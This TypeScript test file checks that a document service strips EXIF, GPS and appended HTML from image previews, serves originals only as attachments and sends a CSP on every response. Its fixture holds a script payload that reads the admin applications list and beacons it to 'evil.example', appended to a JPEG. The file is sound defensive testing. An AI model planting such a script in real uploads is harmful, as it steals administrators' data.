import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import sharp from 'sharp';
import { documentRows } from '../../src/documents/documentRepository.ts';
import { readBlob } from '../../src/documents/documentStore.ts';
import { PATHS } from '../../src/http/paths.ts';
import { uniqueApplicant } from '../helpers/applicants.ts';
import { sha256 } from '../helpers/documentImages.ts';
import { startDocumentServer, type DocumentServer } from '../helpers/documentServer.ts';
import { settledDocuments, startDocumentService, type DocumentService } from '../helpers/documentService.ts';
import { encode, pdfDocument, withExif } from '../helpers/encodedDocuments.ts';
import { ADMIN, call, newOperator, type TestOperator } from '../helpers/operators.ts';
import { newPartner, nowSeconds, post, type TestPartner } from '../helpers/service.ts';
import { storeNames } from '../helpers/stores.ts';

/**
 * Safe to look at (issue 54), on every store, with files by ImageMagick (pixels), EXIF written as a
 * camera writes it, and pdf-lib: the console's inline copy is the preview the service drew, which
 * carries no byte of the partner's file (no HTML appended after a JPEG's end, no EXIF, no GPS),
 * upright, at most 1600 px; the original stays byte-exact and comes only as an attachment with its
 * SHA-256; a PDF has no preview; and every answer of both routes, refusals too, carries the CSP.
 */

const FIELDS = ['id_card_img', 'id_card_back_img', 'passport_img', 'sign_applicant', 'pay_voucher'] as const;
type Field = (typeof FIELDS)[number];

const HTML = Buffer.from(
  '<html><body><script>fetch("/admin/v1/applications").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example/", t))</script></body></html>\n',
);
const MAKE = 'PlantedCam-9F3A';

function assertDocumentHeaders(response: Response, what: string): void {
  assert.equal(response.headers.get('content-security-policy'), "default-src 'none'; sandbox", what);
  assert.equal(response.headers.get('x-content-type-options'), 'nosniff', what);
  assert.equal(response.headers.get('cache-control'), 'no-store', what);
}

/** Whether any run of `length` bytes of `needle` occurs in `haystack`. */
function sharesRun(haystack: Buffer, needle: Buffer, length: number): boolean {
  for (let at = 0; at + length <= needle.length; at++)
    if (haystack.includes(needle.subarray(at, at + length))) return true;
  return false;
}

for (const storeName of storeNames()) {
  describe(`previews of kept documents (${storeName})`, () => {
    let service: DocumentService;
    let images: DocumentServer;
    let partner: TestPartner;
    let reviewer: TestOperator;
    let serial: string;
    const served = {} as Record<Field, Buffer>;

    before(async () => {
      // A photo with the camera's EXIF and GPS, turned (orientation 6), and an HTML page after its end.
      served.id_card_img = Buffer.concat([
        withExif(encode('jpeg', 2400, 1800, 11), { make: MAKE, orientation: 6 }),
        HTML,
      ]);
      served.id_card_back_img = encode('png', 640, 420, 12);
      served.passport_img = encode('webp', 900, 600, 13);
      served.sign_applicant = withExif(encode('progressive-jpeg', 700, 500, 14), {
        make: MAKE,
        orientation: 1,
      });
      served.pay_voucher = await pdfDocument(true);
      images = await startDocumentServer();
      service = await startDocumentService(storeName);
      partner = await newPartner(service);
      reviewer = await newOperator(service, 'reviewer');
      const urls = Object.fromEntries(
        FIELDS.map((field) => [
          field,
          images.route(`/${storeName}/${field}`, { kind: 'bytes', body: served[field] }),
        ]),
      );
      const reply = await post(
        service.baseUrl,
        PATHS.apply,
        { ...uniqueApplicant(7_300, partner.appId), ...urls, timestamp: nowSeconds() },
        { token: partner.token },
      );
      assert.equal(reply.status, 200, reply.text);
      serial = (reply.body.data as { busi_water_no: string }).busi_water_no;
      const outcomes = await settledDocuments(service, partner, serial, 60_000);
      for (const field of FIELDS)
        assert.equal(outcomes[field]?.state, 'kept', `${field}: ${JSON.stringify(outcomes[field])}`);
    });
    after(async () => {
      await service.close();
      await images.close();
    });

    const get = (field: string, copy: '' | '/preview') =>
      fetch(`${service.baseUrl}${ADMIN}/applications/${serial}/documents/${field}${copy}`, {
        headers: { authorization: `Bearer ${reviewer.token}` },
      });
    const admin = (action: string, body: Record<string, unknown> = {}) =>
      call(service, 'POST', `${ADMIN}/applications/${serial}/${action}`, { token: reviewer.token, body });

    test('neither copy is served before an audited opening; the refusal carries the CSP', async () => {
      for (const copy of ['', '/preview'] as const) {
        const refused = await get('id_card_img', copy);
        assert.equal(refused.status, 403, copy);
        assertDocumentHeaders(refused, `refused${copy}`);
        assert.equal(((await refused.json()) as { code: number }).code, 40320);
      }
      assert.equal((await admin('review')).status, 200);
      assert.equal((await admin('claim')).status, 200);
      const opened = await admin('open-for-review', { purpose: 'identity_check' });
      assert.equal(opened.status, 200, opened.text);
    });

    test('the original: byte-exact, an attachment only, its SHA-256 as the evidence', async () => {
      const view = await call(service, 'GET', `${ADMIN}/applications/${serial}`, { token: reviewer.token });
      const documents = (view.body.data as { documents: Record<string, { sha256: string }> }).documents;
      for (const field of FIELDS) {
        const response = await get(field, '');
        assert.equal(response.status, 200, field);
        assertDocumentHeaders(response, field);
        const extension = {
          id_card_img: 'jpg',
          id_card_back_img: 'png',
          passport_img: 'webp',
          sign_applicant: 'jpg',
          pay_voucher: 'pdf',
        }[field];
        assert.equal(
          response.headers.get('content-disposition'),
          `attachment; filename="${serial}-${field}.${extension}"`,
        );
        const bytes = Buffer.from(await response.arrayBuffer());
        assert.ok(bytes.equals(served[field]), `${field}: the partner's bytes, byte for byte`);
        assert.equal(documents[field]?.sha256, sha256(served[field]), field);
        assert.equal(
          response.headers.get('repr-digest'),
          `sha-256=:${Buffer.from(sha256(served[field]), 'hex').toString('base64')}:`,
        );
      }
      // The original still holds what the preview must not: the HTML, the EXIF and its GPS.
      assert.ok(served.id_card_img.includes(HTML));
      assert.ok(served.id_card_img.includes(Buffer.from(MAKE)));
      assert.equal((await sharp(served.id_card_img).metadata()).orientation, 6);
    });

    test('the preview: inline, re-encoded, upright, at most 1600 px, no byte of the HTML, no EXIF or GPS', async () => {
      const expected: Record<Exclude<Field, 'pay_voucher'>, [number, number]> = {
        // 2400 × 1800 turned by its orientation, then fitted into 1600.
        id_card_img: [1200, 1600],
        id_card_back_img: [640, 420],
        passport_img: [900, 600],
        sign_applicant: [700, 500],
      };
      for (const [field, [width, height]] of Object.entries(expected)) {
        const response = await get(field, '/preview');
        assert.equal(response.status, 200, field);
        assertDocumentHeaders(response, `${field}/preview`);
        assert.equal(response.headers.get('content-type'), 'image/jpeg');
        assert.equal(
          response.headers.get('content-disposition'),
          `inline; filename="${serial}-${field}-preview.jpg"`,
        );
        const preview = Buffer.from(await response.arrayBuffer());
        const original = served[field as Field];
        assert.ok(!preview.equals(original), `${field}: drawn again, not the partner's file`);
        const meta = await sharp(preview).metadata();
        assert.equal(meta.format, 'jpeg');
        assert.deepEqual([meta.width, meta.height], [width, height], field);
        assert.ok(Math.max(meta.width, meta.height) <= 1600);
        assert.equal(meta.exif, undefined, `${field}: no EXIF`);
        assert.equal(meta.xmp, undefined, `${field}: no XMP`);
        assert.equal(meta.icc, undefined, `${field}: no ICC profile`);
        assert.equal(meta.orientation, undefined, `${field}: upright, no orientation tag`);
        // Byte searches, the decoder aside: no EXIF header, no camera make, no GPS IFD tag entry.
        assert.ok(!preview.includes(Buffer.from('Exif\0\0', 'latin1')), `${field}: an Exif header`);
        assert.ok(!preview.includes(Buffer.from(MAKE)), `${field}: the camera's make`);
        assert.ok(!preview.includes(Buffer.from([0x88, 0x25, 0x00, 0x04])), `${field}: a GPS IFD pointer`);
        assert.ok(!sharesRun(preview, HTML, 8), `${field}: a run of the appended HTML`);
        assert.ok(!preview.includes(Buffer.from('<script')), field);
      }
    });

    test('a PDF has no preview (404 document_no_preview, with the CSP), only its download', async () => {
      const response = await get('pay_voucher', '/preview');
      assert.equal(response.status, 404);
      assertDocumentHeaders(response, 'pay_voucher/preview');
      assert.equal(((await response.json()) as { code: number }).code, 40421);
      const unknown = await get('cert_id', '/preview');
      assert.equal(unknown.status, 422);
      assertDocumentHeaders(unknown, 'cert_id/preview');
    });

    test('the preview is stored encrypted beside the original, in chunks of its own blob', async () => {
      const rows = await documentRows(service.ctx.store.db, [serial]);
      const row = rows.find((r) => r.field === 'id_card_img')!;
      assert.ok(row.preview_blob_id !== null && row.preview_blob_id !== row.blob_id);
      assert.equal(rows.find((r) => r.field === 'pay_voucher')?.preview_blob_id, null);
      const chunks = await service.ctx.store.db
        .selectFrom('document_chunks')
        .select(['chunk_enc', 'busi_water_no', 'field'])
        .where('blob_id', '=', row.preview_blob_id)
        .execute();
      assert.equal(chunks.length, row.preview_chunk_count);
      const parts: Buffer[] = [];
      const preview = {
        busi_water_no: serial,
        blob_id: row.preview_blob_id,
        chunk_count: row.preview_chunk_count,
      };
      for await (const part of readBlob(service.ctx, preview)) parts.push(part);
      const plain = Buffer.concat(parts);
      assert.ok(plain.subarray(0, 3).equals(Buffer.from([0xff, 0xd8, 0xff])), 'a JPEG once decrypted');
      for (const chunk of chunks) {
        assert.deepEqual([chunk.busi_water_no, chunk.field], [serial, 'id_card_img']);
        // Not in the clear: no 32-byte run of the JPEG's head is in a stored chunk.
        assert.ok(!Buffer.from(chunk.chunk_enc).includes(plain.subarray(0, 32)), 'sealed');
      }
      assert.equal(Buffer.concat(parts).length, Number(row.preview_byte_size));
    });
  });
}
